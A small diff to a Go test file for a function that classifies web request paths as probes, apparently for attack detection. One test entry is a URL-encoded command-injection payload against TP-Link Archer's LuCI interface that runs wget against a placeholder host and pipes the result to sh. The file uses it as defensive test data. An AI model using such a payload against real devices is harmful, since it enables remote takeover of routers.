@@ -119,7 +119,7 @@ func TestProbeOf(t *testing.T) {
 		{"/ISAPI/Security/userCheck", probeStrong},
 		{"/restore.php", probeWeak},
 		{"/restoreplan/", probeNone},
-		// LuCI, bare and with TP-Link Archer's injection (dmjacas/logs).
+		// LuCI, bare and with TP-Link Archer's injection (CVE-2023-1389).
 		{"/cgi-bin/luci", probeStrong},
 		{"/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+http%3A%2F%2Fx%2Ft%7Csh%3B%60)", probeStrong},
 		{"/cgi-bin/lucid.pl", probeWeak},
